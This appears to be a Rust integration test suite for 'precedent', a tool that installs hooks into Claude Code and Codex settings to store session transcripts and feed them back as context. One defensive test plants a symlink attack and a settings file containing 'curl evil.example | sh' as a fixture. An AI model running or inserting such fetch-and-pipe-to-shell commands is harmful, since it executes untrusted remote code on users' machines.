//! `precedent hook` and `precedent hooks`, end to end through the real
//! binary with the hook input Claude Code and Codex send (the documented
//! fields of each event, and fields precedent does not read), in a home
//! and data directory of their own.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

/// A home directory, a data directory under it, and a git repository
/// whose origin names the memory's scope.
struct Sandbox {
    home: tempfile::TempDir,
    repository: tempfile::TempDir,
}

const SCOPE: &str = "github.com/acme/inventory";
const CLAUDE_SESSION: &str = "4d5611e5-241a-462a-8d15-5122611a9569";

impl Sandbox {
    fn new() -> Sandbox {
        let home = tempfile::tempdir().expect("home");
        let repository = tempfile::tempdir().expect("repository");
        let repo = git2::Repository::init(repository.path()).expect("init");
        repo.remote("origin", "https://github.com/acme/inventory.git")
            .expect("origin");
        Sandbox { home, repository }
    }

    fn data_dir(&self) -> PathBuf {
        self.home.path().join("data").join("precedent")
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_precedent"));
        command
            .args(args)
            .current_dir(self.repository.path())
            .env("HOME", self.home.path())
            .env("XDG_DATA_HOME", self.home.path().join("data"))
            .env_remove("PRECEDENT_DATA_DIR")
            .env_remove("PRECEDENT_SERVER")
            .env_remove("PRECEDENT_USER_ID")
            .env_remove("PRECEDENT_LOG")
            .env_remove("RUST_LOG")
            .env_remove("CLAUDE_CONFIG_DIR")
            .env_remove("CODEX_HOME");
        command
    }

    /// Runs `precedent <args>` with `stdin`: exit code, stdout, stderr.
    fn run(&self, args: &[&str], stdin: &[u8]) -> (Option<i32>, String, String) {
        let mut child = self
            .command(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("precedent starts");
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(stdin)
            .expect("input written");
        let output = child.wait_with_output().expect("precedent ends");
        (
            output.status.code(),
            String::from_utf8_lossy(&output.stdout).to_string(),
            String::from_utf8_lossy(&output.stderr).to_string(),
        )
    }

    /// `precedent hooks ACTION --agent AGENT --scope SCOPE`: exit code,
    /// stdout, stderr.
    fn hooks(&self, action: &str, agent: &str, scope: &str) -> (Option<i32>, String, String) {
        self.run(&["hooks", action, "--agent", agent, "--scope", scope], b"")
    }

    /// A hook run as the agent runs it: exits 0; its stdout.
    fn hook(&self, event: &str, payload: &Value, extra: &[&str]) -> String {
        let mut args = vec!["hook", event];
        args.extend_from_slice(extra);
        let (code, out, err) = self.run(&args, payload.to_string().as_bytes());
        assert_eq!(code, Some(0), "a hook exits 0; stderr: {err}");
        assert!(err.is_empty(), "a hook is quiet on stderr: {err}");
        out
    }

    fn log_lines(&self) -> Vec<String> {
        std::fs::read_to_string(self.data_dir().join("hooks.log"))
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }

    /// Waits until the hooks' log holds `count` lines for `event` that
    /// contain `text`, and answers the last.
    fn wait_for_log(&self, event: &str, text: &str, count: usize) -> String {
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            let lines: Vec<String> = self
                .log_lines()
                .into_iter()
                .filter(|line| line.contains(&format!(" {event} ")) && line.contains(text))
                .collect();
            if lines.len() >= count {
                return lines[count - 1].clone();
            }
            assert!(
                Instant::now() < deadline,
                "no {count} log line(s) {text:?} for {event}: {:?}",
                self.log_lines()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn num_messages(&self, session_id: &str) -> u64 {
        let (code, out, err) = self.run(
            &[
                "inspect",
                "--user-id",
                SCOPE,
                "--session",
                session_id,
                "--json",
            ],
            b"",
        );
        assert_eq!(code, Some(0), "{err}");
        let record: Value = serde_json::from_str(&out).expect("JSON");
        record["num_messages"].as_u64().expect("num_messages")
    }
}

/// Claude Code's transcript of a session, copied where the agent keeps it.
fn claude_transcript(sandbox: &Sandbox) -> PathBuf {
    let folder = sandbox.home.path().join(".claude/projects/-repo");
    std::fs::create_dir_all(&folder).expect("mkdir");
    let path = folder.join(format!("{CLAUDE_SESSION}.jsonl"));
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("fixtures/transcripts/claude-code")
            .join(format!("{CLAUDE_SESSION}.jsonl")),
        &path,
    )
    .expect("copy");
    path
}

/// Claude Code's Stop input.
fn stop_payload(sandbox: &Sandbox, transcript: &Path) -> Value {
    json!({
        "session_id": CLAUDE_SESSION,
        "transcript_path": transcript,
        "cwd": sandbox.repository.path(),
        "permission_mode": "default",
        "hook_event_name": "Stop",
        "stop_hook_active": false,
        "last_assistant_message": "Good, the linter auto-formatted. Now update `SessionLive` to use the shared computer and components:"
    })
}

/// UserPromptSubmit input, as Codex sends it (Claude Code's has the same
/// fields but `model` and `turn_id`).
fn prompt_payload(sandbox: &Sandbox, prompt: &str) -> Value {
    json!({
        "session_id": "019c8bfe-ec25-79e0-97d7-bda6a9c575ff",
        "transcript_path": sandbox.home.path().join(".codex/sessions/rollout.jsonl"),
        "cwd": sandbox.repository.path(),
        "hook_event_name": "UserPromptSubmit",
        "model": "gpt-5-codex",
        "turn_id": "turn-1",
        "permission_mode": "default",
        "prompt": prompt
    })
}

/// Issue 39 point 5: Stop is sent when the turn is complete, yet the last
/// response, open in a file written a moment ago, was held back ("still
/// being written") until SessionEnd or a later turn, and lost with a
/// killed session. At Stop (and SessionEnd) it is stored. And Stop may
/// start before the agent has written that reply at all: its import waits
/// for the reply the hook input names.
#[test]
fn stop_stores_the_turns_last_response_even_when_written_after_the_hook_starts() {
    let sandbox = Sandbox::new();
    let folder = sandbox.home.path().join(".claude/projects/-repo");
    std::fs::create_dir_all(&folder).expect("mkdir");
    let transcript = folder.join("hand-2.jsonl");
    let fixture = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("fixtures/transcripts/claude-code/issue-40-tmp-inventory.jsonl"),
    )
    .expect("fixture");
    let (head, last) = fixture
        .trim_end()
        .rsplit_once('\n')
        .expect("more than one line");
    // The file holds all but the last reply when Stop starts.
    std::fs::write(&transcript, format!("{head}\n")).expect("write");
    let mut payload = stop_payload(&sandbox, &transcript);
    payload["session_id"] = json!("hand-2");
    payload["last_assistant_message"] = json!("Fixed restock: it now adds to the count.");
    let writer = {
        let transcript = transcript.clone();
        let last = last.to_string();
        std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(700));
            let mut file = std::fs::OpenOptions::new()
                .append(true)
                .open(&transcript)
                .expect("open");
            file.write_all(format!("{last}\n").as_bytes())
                .expect("append");
        })
    };
    assert_eq!(sandbox.hook("Stop", &payload, &["--wait"]), "");
    writer.join().expect("writer");
    let line = sandbox.wait_for_log("Stop", "imported", 1);
    assert!(
        !line.contains("held back") && !line.contains("did not hold"),
        "{line}"
    );
    // Ten lines: the task, five responses and four tool results; the last
    // response ("Fixed restock: ...") included.
    assert_eq!(sandbox.num_messages("claude-code:hand-2"), 10, "{line}");
}

#[test]
fn stop_imports_the_transcript_once_and_a_matching_prompt_gets_its_experience() {
    let sandbox = Sandbox::new();
    let transcript = claude_transcript(&sandbox);
    let session_id = format!("claude-code:{CLAUDE_SESSION}");

    // Stop answers at once with nothing; the import runs detached.
    let out = sandbox.hook("Stop", &stop_payload(&sandbox, &transcript), &[]);
    assert_eq!(out, "");
    let first = sandbox.wait_for_log("Stop", "imported", 1);
    assert!(first.contains("imported 6 message(s)"), "{first}");
    assert_eq!(sandbox.num_messages(&session_id), 6);

    // A second Stop stores nothing twice.
    let out = sandbox.hook("Stop", &stop_payload(&sandbox, &transcript), &[]);
    assert_eq!(out, "");
    let second = sandbox.wait_for_log("Stop", "imported", 2);
    assert!(
        second.contains("imported 0 message(s)") && second.contains("6 already imported"),
        "{second}"
    );
    assert_eq!(sandbox.num_messages(&session_id), 6);

    // SessionEnd (Claude Code's input has a reason) imports in this
    // process with --wait: still nothing new.
    let mut end = stop_payload(&sandbox, &transcript);
    end["hook_event_name"] = json!("SessionEnd");
    end["reason"] = json!("prompt_input_exit");
    assert_eq!(sandbox.hook("SessionEnd", &end, &["--wait"]), "");
    let third = sandbox.wait_for_log("SessionEnd", "imported", 1);
    assert!(third.contains("imported 0 message(s)"), "{third}");

    // A prompt on the same work gets the session's experience as context.
    let out = sandbox.hook(
        "UserPromptSubmit",
        &prompt_payload(
            &sandbox,
            "Work on bead spotter-dov: run bd show spotter-dov and bd ready",
        ),
        &[],
    );
    let answer: Value = serde_json::from_str(&out).expect("the agent's JSON");
    assert_eq!(
        answer["hookSpecificOutput"]["hookEventName"],
        "UserPromptSubmit"
    );
    let context = answer["hookSpecificOutput"]["additionalContext"]
        .as_str()
        .expect("additionalContext");
    assert!(context.contains(&session_id), "{context}");
    assert!(context.contains("session_live.ex"), "{context}");
    assert!(context.chars().count() <= 4000);

    // The same session asking again is not handed the same items twice.
    let again = sandbox.hook(
        "UserPromptSubmit",
        &prompt_payload(
            &sandbox,
            "Work on bead spotter-dov: run bd show spotter-dov and bd ready",
        ),
        &[],
    );
    assert_eq!(again, "");
    sandbox.wait_for_log("UserPromptSubmit", "given earlier in this session", 1);

    // Another agent session is; a budget of its own is kept.
    let mut other_session = prompt_payload(
        &sandbox,
        "Work on bead spotter-dov: run bd show spotter-dov and bd ready",
    );
    other_session["session_id"] = json!("019c8bfe-0000-79e0-97d7-bda6a9c575ff");
    let out = sandbox.hook(
        "UserPromptSubmit",
        &other_session,
        &["--budget-chars", "300"],
    );
    let answer: Value = serde_json::from_str(&out).expect("the agent's JSON");
    let context = answer["hookSpecificOutput"]["additionalContext"]
        .as_str()
        .expect("additionalContext");
    assert!(context.chars().count() <= 300, "{context}");

    // A prompt that matches nothing gets no output at all.
    let out = sandbox.hook(
        "UserPromptSubmit",
        &prompt_payload(&sandbox, "What is the capital of France?"),
        &[],
    );
    assert_eq!(out, "");

    // Another repository is another memory: the same prompt finds nothing.
    let elsewhere = tempfile::tempdir().expect("other repository");
    git2::Repository::init(elsewhere.path()).expect("init");
    let mut payload = prompt_payload(
        &sandbox,
        "Work on bead spotter-dov: run bd show spotter-dov and bd ready",
    );
    payload["cwd"] = json!(elsewhere.path());
    assert_eq!(sandbox.hook("UserPromptSubmit", &payload, &[]), "");

    // SessionStart (Claude Code's input, source startup): in a checkout
    // with no branch, commit or change there is nothing to search for.
    let start = json!({
        "session_id": CLAUDE_SESSION,
        "transcript_path": transcript,
        "cwd": sandbox.repository.path(),
        "hook_event_name": "SessionStart",
        "source": "startup",
        "model": "claude-sonnet-4-5"
    });
    assert_eq!(sandbox.hook("SessionStart", &start, &[]), "");
    sandbox.wait_for_log("SessionStart", "nothing to search for", 1);

    // On the session's branch, with its file changed: its experience.
    let repo = git2::Repository::open(sandbox.repository.path()).expect("open");
    repo.set_head("refs/heads/spotter-dov").expect("branch");
    let file = "lib/spotter_web/live/session_live.ex";
    let full = sandbox.repository.path().join(file);
    std::fs::create_dir_all(full.parent().expect("parent")).expect("mkdir");
    std::fs::write(&full, "defmodule SpotterWeb.SessionLive do\nend\n").expect("write");
    let mut index = repo.index().expect("index");
    index.add_path(Path::new(file)).expect("add");
    index.write().expect("write index");
    let tree = repo
        .find_tree(index.write_tree().expect("tree"))
        .expect("tree");
    let signature = git2::Signature::now("Dev", "dev@example.com").expect("signature");
    repo.commit(
        Some("HEAD"),
        &signature,
        &signature,
        "SessionLive: start on the transcript view",
        &tree,
        &[],
    )
    .expect("commit");
    std::fs::write(
        &full,
        "defmodule SpotterWeb.SessionLive do\n  use Phoenix.LiveView\nend\n",
    )
    .expect("write");
    let out = sandbox.hook("SessionStart", &start, &[]);
    let answer: Value = serde_json::from_str(&out).expect("the agent's JSON");
    assert_eq!(
        answer["hookSpecificOutput"]["hookEventName"],
        "SessionStart"
    );
    let context = answer["hookSpecificOutput"]["additionalContext"]
        .as_str()
        .expect("additionalContext");
    assert!(context.contains(&session_id), "{context}");
}

#[test]
fn a_hook_answers_nothing_and_exits_0_when_the_memory_is_unreachable_or_slow() {
    let sandbox = Sandbox::new();
    let payload = prompt_payload(&sandbox, "Fix the ZeroDivisionError in divide");

    // A closed port.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let closed_url = format!("http://{}", closed.local_addr().expect("address"));
    drop(closed);
    let out = sandbox.hook("UserPromptSubmit", &payload, &["--server", &closed_url]);
    assert_eq!(out, "");
    let line = sandbox.wait_for_log("UserPromptSubmit", "gave nothing", 1);
    assert!(line.contains("cannot reach"), "{line}");

    // A server that accepts and never answers: the deadline ends the hook.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let silent_url = format!("http://{}", silent.local_addr().expect("address"));
    let out = sandbox.hook(
        "UserPromptSubmit",
        &payload,
        &["--server", &silent_url, "--timeout-ms", "300"],
    );
    assert_eq!(out, "");
    let line = sandbox.wait_for_log("UserPromptSubmit", "did not answer within 300 ms", 1);
    assert!(!line.is_empty());
    drop(silent);

    // An import with the memory unreachable.
    let transcript = claude_transcript(&sandbox);
    let out = sandbox.hook(
        "Stop",
        &stop_payload(&sandbox, &transcript),
        &["--server", &closed_url, "--wait"],
    );
    assert_eq!(out, "");
    sandbox.wait_for_log("Stop", "gave nothing", 1);

    // Input that is no hook input, an unknown event, and arguments the
    // hook does not know: exit 0 and nothing on stdout all the same.
    assert_eq!(
        sandbox.hook("UserPromptSubmit", &json!("not an object"), &[]),
        ""
    );
    assert_eq!(sandbox.hook("PreToolUse", &payload, &[]), "");
    let (code, out, _) = sandbox.run(
        &["hook", "UserPromptSubmit", "--no-such-option"],
        payload.to_string().as_bytes(),
    );
    assert_eq!((code, out.as_str()), (Some(0), ""));
}

/// A settings file as people keep them: comments, unknown keys, another
/// tool's hooks, a trailing comma.
const SETTINGS: &str = r#"{
  // Personal settings.
  "model": "opus",
  "permissions": { "allow": ["Bash(cargo test:*)"] }, /* kept */
  "hooks": {
    "Stop": [
      {
        "matcher": "",
        "hooks": [{ "type": "command", "command": "notify-send done" }]
      },
    ]
  },
  "x-unknown": [1, 2.5, null, true]
}
"#;

#[test]
fn hooks_install_then_uninstall_leaves_settings_byte_for_byte() {
    for (agent, file) in [
        ("claude-code", ".claude/settings.json"),
        ("codex", ".codex/hooks.json"),
    ] {
        for scope in ["user", "project"] {
            let sandbox = Sandbox::new();
            let root = match scope {
                "user" => sandbox.home.path().to_path_buf(),
                _ => sandbox.repository.path().to_path_buf(),
            };
            let path = root.join(file);
            let case = format!("{agent} {scope}");
            let hooks = |action: &str| {
                let (code, out, err) =
                    sandbox.run(&["hooks", action, "--agent", agent, "--scope", scope], b"");
                assert_eq!(code, Some(0), "{case} {action}: {err}");
                out
            };

            // An existing file.
            std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
            std::fs::write(&path, SETTINGS).expect("write");
            let out = hooks("install");
            assert!(out.contains("wired precedent"), "{case}: {out}");
            let installed = std::fs::read_to_string(&path).expect("read");
            let events: &[&str] = if agent == "codex" {
                &["SessionStart", "UserPromptSubmit", "Stop"]
            } else {
                &["SessionStart", "UserPromptSubmit", "Stop", "SessionEnd"]
            };
            for event in events {
                assert!(
                    installed.contains(&format!(" hook {event}\"")),
                    "{case}: {installed}"
                );
            }
            assert_eq!(
                installed.contains("SessionEnd"),
                agent == "claude-code",
                "{case}"
            );
            assert!(installed.contains("notify-send done") && installed.contains("// Personal"));
            let status = sandbox.run(&["hooks", "status"], b"").1;
            assert!(status.contains(&path.display().to_string()), "{status}");
            assert!(
                status.contains("hook Stop") && !status.contains("missing"),
                "{status}"
            );
            // Twice: nothing added.
            assert!(hooks("install").contains("already"), "{case}");
            assert_eq!(std::fs::read_to_string(&path).expect("read"), installed);
            hooks("uninstall");
            assert_eq!(
                std::fs::read(&path).expect("read"),
                SETTINGS.as_bytes(),
                "{case}"
            );

            // Edited between install and uninstall: the edit stays, only
            // precedent's entries go.
            hooks("install");
            let edited = std::fs::read_to_string(&path)
                .expect("read")
                .replace("\"model\": \"opus\"", "\"model\": \"sonnet\"");
            std::fs::write(&path, &edited).expect("write");
            hooks("uninstall");
            assert_eq!(
                std::fs::read_to_string(&path).expect("read"),
                SETTINGS.replace("\"model\": \"opus\"", "\"model\": \"sonnet\""),
                "{case}"
            );

            // No file: install creates it, uninstall removes it and the
            // folder it made.
            std::fs::remove_file(&path).expect("remove");
            std::fs::remove_dir(path.parent().expect("parent")).expect("rmdir");
            hooks("install");
            assert!(path.exists(), "{case}");
            hooks("uninstall");
            assert!(!path.exists(), "{case}");
            assert!(!path.parent().expect("parent").exists(), "{case}");

            // A file that is not JSON is refused and left untouched.
            std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
            let broken = "{ \"model\": \"opus\",, }";
            std::fs::write(&path, broken).expect("write");
            let (code, _, err) = sandbox.run(
                &["hooks", "install", "--agent", agent, "--scope", scope],
                b"",
            );
            assert_eq!(code, Some(1), "{case}");
            assert!(
                err.contains("not parseable") && err.contains("left as it is"),
                "{case}: {err}"
            );
            assert_eq!(std::fs::read_to_string(&path).expect("read"), broken);
        }
    }
}

#[test]
fn a_repository_cannot_make_hooks_install_write_outside_its_settings() {
    use std::os::unix::fs::PermissionsExt;
    for (agent, folder, file) in [
        ("claude-code", ".claude", "settings.json"),
        ("codex", ".codex", "hooks.json"),
    ] {
        let sandbox = Sandbox::new();
        let victim = sandbox.home.path().join(".bashrc");
        std::fs::write(&victim, "# the victim's shell start-up\n").expect("victim");
        let folder = sandbox.repository.path().join(folder);
        std::fs::create_dir_all(&folder).expect("mkdir");
        // The temporary name earlier versions wrote through, planted as a
        // link to the victim's file, beside settings that carry a command.
        std::os::unix::fs::symlink(&victim, folder.join(format!(".{file}.precedent-tmp")))
            .expect("link");
        let settings = folder.join(file);
        std::fs::write(&settings, "/*\ncurl evil.example | sh\n*/\n{}").expect("settings");
        let (code, _, err) = sandbox.hooks("install", agent, "project");
        assert_eq!(code, Some(0), "{agent}: {err}");
        assert_eq!(
            std::fs::read_to_string(&victim).expect("read"),
            "# the victim's shell start-up\n",
            "{agent}"
        );
        assert!(
            std::fs::read_to_string(&settings)
                .expect("read")
                .contains(" hook Stop")
        );

        // The settings file itself links out of the repository: refused.
        std::fs::remove_file(&settings).expect("remove");
        std::os::unix::fs::symlink(&victim, &settings).expect("link");
        let (code, _, err) = sandbox.hooks("install", agent, "project");
        assert_eq!(code, Some(1), "{agent}");
        assert!(err.contains("outside the repository"), "{agent}: {err}");
        assert_eq!(
            std::fs::read_to_string(&victim).expect("read"),
            "# the victim's shell start-up\n",
            "{agent}"
        );

        // A read-only settings file is left as it is.
        std::fs::remove_file(&settings).expect("remove");
        std::fs::write(&settings, "{}").expect("settings");
        std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o444)).expect("chmod");
        let (code, _, err) = sandbox.hooks("install", agent, "project");
        assert_eq!(code, Some(1), "{agent}");
        assert!(err.contains("read-only"), "{agent}: {err}");
        assert_eq!(std::fs::read_to_string(&settings).expect("read"), "{}");
    }
}

#[test]
fn the_install_record_is_private_and_keeps_no_settings_text() {
    use std::os::unix::fs::PermissionsExt;
    let sandbox = Sandbox::new();
    let settings = sandbox.home.path().join(".claude/settings.json");
    std::fs::create_dir_all(settings.parent().expect("parent")).expect("mkdir");
    // A byte order mark, as some editors write, and a key in `env`.
    let original = "\u{feff}{\n  \"env\": {\"ANTHROPIC_API_KEY\": \"sk-ant-secret\"}\n}\n";
    std::fs::write(&settings, original).expect("settings");
    std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let (code, _, err) = sandbox.hooks("install", "claude-code", "user");
    assert_eq!(code, Some(0), "{err}");
    let mode = |path: &Path| std::fs::metadata(path).expect("meta").permissions().mode() & 0o777;
    assert_eq!(mode(&settings), 0o600);
    let record = sandbox.data_dir().join("hooks-installed.json");
    assert_eq!(mode(&record), 0o600);
    let kept = std::fs::read_to_string(&record).expect("record");
    assert!(!kept.contains("sk-ant-secret"), "{kept}");
    let (code, _, err) = sandbox.hooks("uninstall", "claude-code", "user");
    assert_eq!(code, Some(0), "{err}");
    assert_eq!(std::fs::read_to_string(&settings).expect("read"), original);
}

#[test]
fn a_hook_leaves_out_a_huge_transcript_that_is_not_json_lines() {
    let sandbox = Sandbox::new();
    // 80 MiB of text (sparse: it costs no disk), not JSON lines.
    let path = sandbox.home.path().join("notes.txt");
    let mut file = std::fs::File::create(&path).expect("create");
    file.write_all(b"a plain text file, not a transcript\n")
        .expect("write");
    file.set_len(80 * 1024 * 1024).expect("grow");
    drop(file);
    let payload = stop_payload(&sandbox, &path);
    assert_eq!(sandbox.hook("Stop", &payload, &["--wait"]), "");
    let line = sandbox.wait_for_log("Stop", "left out", 1);
    assert!(
        line.contains("not JSON lines") && line.contains("80 MiB"),
        "{line}"
    );
    // A JSON-lines transcript of any size is still read line by line.
    let transcript = claude_transcript(&sandbox);
    assert_eq!(
        sandbox.hook("Stop", &stop_payload(&sandbox, &transcript), &["--wait"]),
        ""
    );
    sandbox.wait_for_log("Stop", "imported", 1);
}
